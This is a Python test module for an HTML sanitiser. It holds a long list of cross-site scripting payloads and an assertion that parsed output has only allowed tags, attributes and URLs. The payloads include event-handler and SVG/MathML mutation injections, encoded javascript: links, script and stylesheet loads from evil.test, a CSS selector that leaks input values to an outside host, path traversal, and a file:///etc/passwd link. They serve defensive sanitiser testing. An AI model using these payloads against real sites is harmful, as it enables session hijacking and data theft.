"""Attacks on rich text, and the check that a browser would find none of them in what comes out."""

from collections.abc import Iterator
from urllib.parse import unquote
from xml.etree.ElementTree import Element

import html5lib

from tenants.ground.html import safe_url

TAGS = (
    {"a", "blockquote", "br", "em", "figcaption", "figure", "h2", "h3", "h4", "img", "li", "ol", "p", "span"}
    | {"strong", "sub", "sup", "ul"}
    | {"caption", "table", "tbody", "td", "th", "thead", "tr"}
)
ATTRIBUTES = {
    "lang",
    "href",
    "hreflang",
    "rel",
    "src",
    "alt",
    "width",
    "height",
    "scope",
    "colspan",
    "rowspan",
}

# Each runs, or once ran, somewhere. FN stands for the script.
VECTORS = """
<script>FN</script>
<script src=//evil.test/x.js></script>
<SCRIPT SRC="data:text/javascript,FN"></SCRIPT>
<scr<script>ipt>FN</scr</script>ipt>
<script\x00>FN</script>
<script/x>FN</script\t>
<<script>FN//<</script>
<img src=x onerror=FN>
<img src=x onerror="FN"
<img/src=x/onerror=FN>
<img src="/tep/a.png" onerror="FN">
<img src='/tep/a.png"onerror="FN'>
<img src=`javascript:FN`>
<img src="javascript:FN">
<img src="data:image/svg+xml,<svg onload=FN>">
<img src="/tep/../quan-tri/xoa?id=1">
<img src="/tep/../quan-tri/x.png">
<img src="/tep/%2e%2E/quan-tri/x.png">
<img src="/tep/.%2e/x.png">
<img src="//evil.test/a.png">
<img src="http://evil.test/pixel.gif">
<img src="/tep/a.png" srcset="x,javascript:FN 1x">
<img src=/tep/a.png style="background:url(javascript:FN)">
<img src=/tep/a.png lowsrc=javascript:FN dynsrc=javascript:FN>
<image src=x onerror=FN>
<img src=/tep/a.png usemap=#m><map name=m><area href=javascript:FN></map>
<svg onload=FN>
<svg/onload=FN//
<svg><script>FN</script></svg>
<svg><script href="data:,FN"/></svg>
<svg><a xlink:href="javascript:FN"><text y=20>x</text></a></svg>
<svg><animate attributeName=href values=javascript:FN begin=0s />
<svg><set attributeName=onload to=FN />
<svg><use href="data:image/svg+xml,<svg id=x><script>FN</script></svg>#x" /></svg>
<svg><foreignObject><iframe onload=FN></foreignObject></svg>
<svg><p><style><img src=x onerror=FN></style></p></svg>
<svg></p><style><a id="</style><img src=1 onerror=FN>">
<svg><style><!--</style><img src=x onerror=FN>--></svg>
<svg><title><a title="</title><img src=x onerror=FN>">
<svg><desc><![CDATA[</desc><img src=x onerror=FN>]]></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=FN&gt;">
<math><mtext><mglyph><svg><mtext><style><a title="</style><img src onerror=FN>"></style></mtext></svg>
<math><annotation-xml encoding="text/html"><script>FN</script></annotation-xml></math>
<math href="javascript:FN">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:FN">x</maction></math>
<math><p></p><style><!--</style><img src=x onerror=FN>--></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=FN>
<noscript><p title="</noscript><img src=x onerror=FN>"></noscript>
<noscript><!-- </noscript><img src=x onerror=FN> --></noscript>
<noscript><style></noscript><img src=x onerror=FN></style>
<noembed><img title="</noembed><img src onerror=FN>"></noembed>
<noframes><img title="</noframes><img src onerror=FN>"></noframes>
<template><script>FN</script></template>
<template><img src=x onerror=FN></template>
<template shadowrootmode=open><img src=x onerror=FN></template>
<xmp><p title="</xmp><img src=x onerror=FN>"></xmp>
<plaintext><img src=x onerror=FN>
<textarea><p title="</textarea><img src=x onerror=FN>"></textarea>
<title><p title="</title><img src=x onerror=FN>"></title>
<style>@import 'javascript:FN';</style>
<style><img src="</style><img src=x onerror=FN//">
<style>*{background:url("javascript:FN")}</style>
<style>input[value^=a]{background:url(//evil.test/a)}</style>
<select><style></select><img src=x onerror=FN></style>
<select><option><style></option></select><img src=x onerror=FN></style>
<iframe src=javascript:FN></iframe>
<iframe srcdoc="<script>FN</script>"></iframe>
<iframe><img title="</iframe><img src onerror=FN>">
<object data="javascript:FN"></object>
<object data="data:text/html,<script>FN</script>"></object>
<embed src="javascript:FN">
<embed src="/tep/x.swf" allowscriptaccess=always>
<applet code="x"></applet>
<base href="javascript:FN//">
<base href="https://evil.test/">
<link rel=stylesheet href="//evil.test/x.css">
<link rel=import href="data:text/html,FN">
<meta http-equiv=refresh content="0;url=javascript:FN">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<form action="javascript:FN"><input type=submit></form>
<form><button formaction="javascript:FN">x</button></form>
<form id=f></form><button form=f formaction="javascript:FN">x</button>
<input type=image src=x onerror=FN>
<input autofocus onfocus=FN>
<isindex type=image src=1 onerror=FN>
<keygen autofocus onfocus=FN>
<video src=x onerror=FN></video>
<video><source onerror=FN></video>
<video poster=javascript:FN></video>
<audio src=x onerror=FN></audio>
<details open ontoggle=FN>x</details>
<marquee onstart=FN>x</marquee>
<body onload=FN>
<html onmouseover=FN>
<frameset onload=FN><frame src=javascript:FN></frameset>
<p onclick=FN>x</p>
<p onpointerenter="FN">x</p>
<p style="width:expression(FN)">x</p>
<p style="position:fixed;inset:0">x</p>
<p id=unit class=t-due>x</p>
<p data-action="delete" hx-get="/quan-tri" x-on:click="FN" v-on:click="FN">x</p>
<p is="x-y" slot=a part=b contenteditable draggable=true tabindex=1 accesskey=s>x</p>
<div onmouseenter=FN><div style=color:red>x</div></div>
<x onclick=FN>x</x>
<x-y onconnected=FN><b onclick=FN>x</b></x-y>
<a href="javascript:FN">x</a>
<a href=" javascript:FN">x</a>
<a href="\x01javascript:FN">x</a>
<a href="java\tscript:FN">x</a>
<a href="java\nscript:FN">x</a>
<a href="java&#9;script:FN">x</a>
<a href="java&Tab;script:FN">x</a>
<a href="java&NewLine;script&colon;FN">x</a>
<a href="&#106;avascript:FN">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;FN">x</a>
<a href="&#0000106&#0000097vascript:FN">x</a>
<a href="JaVaScRiPt:FN">x</a>
<a href="javascript&#58;FN">x</a>
<a href="jav&#x200b;ascript:FN">x</a>
<a href="\u202ejavascript:FN">x</a>
<a href="javascript://%0aFN">x</a>
<a href="javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/[]/+FN//'>">x</a>
<a href="vbscript:FN">x</a>
<a href="livescript:FN">x</a>
<a href="mocha:FN">x</a>
<a href="data:text/html,<script>FN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4x">x</a>
<a href="DATA:text/html,FN">x</a>
<a href="blob:https://x/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="filesystem:https://x/1">x</a>
<a href="view-source:https://x">x</a>
<a href="feed:javascript:FN">x</a>
<a href="jar:javascript:FN!/">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-word:ofe|u|https://x/y.docx">x</a>
<a href="//evil.test">x</a>
<a href="/\\evil.test">x</a>
<a href="\\\\evil.test">x</a>
<a href="/\t/evil.test">x</a>
<a href="/.//evil.test">x</a>
<a href="https:evil.test">x</a>
<a href="https:/evil.test">x</a>
<a href="https:///evil.test">x</a>
<a href="https://moet.gov.vn@evil.test">x</a>
<a href="https://moet.gov.vn%40evil.test@evil.test/">x</a>
<a href="http://[::1">x</a>
<a href="http://x:99999999/">x</a>
<a href="mailto:a@b.vn%0d%0abcc:c@d.vn">x</a>
<a href="tel:112;phone-context=javascript:FN">x</a>
<a href="/x" target=_blank rel=opener>x</a>
<a href="https://x.vn" rel="opener ugc" ping="https://evil.test" download>x</a>
<a href="/x" onmouseover=FN style=x>x</a>
<a href='/x" onmouseover="FN'>x</a>
<a href="/x"onmouseover="FN">x</a>
<a href=/x/onmouseover=FN>x</a>
<a href="/x" href="javascript:FN">x</a>
<a title='"><img src=x onerror=FN>' href=/x>x</a>
<a lang='vi"><img src=x onerror=FN>' href=/x>x</a>
<img alt='"><script>FN</script>' src=/tep/a.png>
<img alt="<img src=x onerror=FN>" src=/tep/a.png>
<img alt="`><script>FN</script>" src=/tep/a.png>
<img alt="&quot;&gt;&lt;script&gt;FN&lt;/script&gt;" src=/tep/a.png>
<td background=javascript:FN>x</td>
<table background=javascript:FN><tr><td onclick=FN>x</table>
<table><caption><svg onload=FN></caption><tr><th scope="col onclick=FN">x
<table><td colspan=100000000 rowspan=65534>x
<table><colgroup><col onclick=FN></colgroup><script>FN</script></table>
<!--><img src=x onerror=FN>-->
<!--[if gte IE 4]><script>FN</script><![endif]-->
<!-- --!><img src=x onerror=FN> -->
<!--x--><script>FN</script><!---->
<![CDATA[<img src=x onerror=FN>]]>
<?xml-stylesheet href="javascript:FN"?>
<?php FN ?><img src=x onerror=FN>
<!DOCTYPE html [<!ENTITY x "<script>FN</script>">]>&x;
<!ELEMENT x><img src=x onerror=FN>
</p/<img src=x onerror=FN>
</br onclick=FN>
</a onmousemove="FN">
&lt;script&gt;FN&lt;/script&gt;
&amp;lt;script&amp;gt;FN&amp;lt;/script&amp;gt;
\uff1cscript\uff1eFN\uff1c/script\uff1e
%3Cscript%3EFN%3C/script%3E
+ADw-script+AD4-FN+ADw-/script+AD4-
<p>\u0338<img src=x onerror=FN>
<p>&#824;<img src=x onerror=FN>
<\u0338script>FN</script>
<img src=x\u0338onerror=FN>
{{constructor.constructor('FN')()}}
{% raw %}<script>FN</script>{% endraw %}
${FN}
<o:p onclick=FN>x</o:p><v:shape onload=FN>
<b><p><b><p onclick=FN><table><b><td><script>FN</script>
<a href=/x><a href=javascript:FN><table><a href=javascript:FN>x
<h2><h3 onclick=FN><script>FN</script></h2>
<ul><li onclick=FN><ul><svg onload=FN></ul>
<dialog open onclose=FN>x</dialog>
<portal src=javascript:FN></portal>
<fencedframe></fencedframe><selectedcontent></selectedcontent>
<search onclick=FN>x</search>
<span lang="vi" onclick="FN">x</span>
<span lang='"onclick="FN'>x</span>
""".strip().split("\n")

WRAPPERS = (
    "{}",
    "<p>{}</p>",
    "<table><tr><td>{}",
    "<ul><li><strong>{}",
    '<a href="/x">{}</a>',
    "<svg>{}</svg>",
)


def elements(html: str) -> Iterator[Element]:
    """Yield what a browser makes of `html`, which may differ from what a sanitiser thinks it will."""
    tree = html5lib.parseFragment(html, namespaceHTMLElements=False)
    return (element for element in tree.iter() if element is not tree)


def assert_harmless(html: str) -> None:
    """Fail when a browser would find anything in `html` that the house does not allow."""
    for element in elements(html):
        assert isinstance(element.tag, str), f"a comment in {html}"
        assert element.tag in TAGS, f"<{element.tag}> in {html}"
        assert set(element.attrib) <= ATTRIBUTES, f"{element.attrib} in {html}"
        assert element.get("rel", "noopener") == "noopener"
        if "href" in element.attrib:
            assert safe_url(element.attrib["href"]) == element.attrib["href"]
        if element.tag == "img":
            source = unquote(element.attrib["src"])
            assert source.startswith("/tep/") and ".." not in source
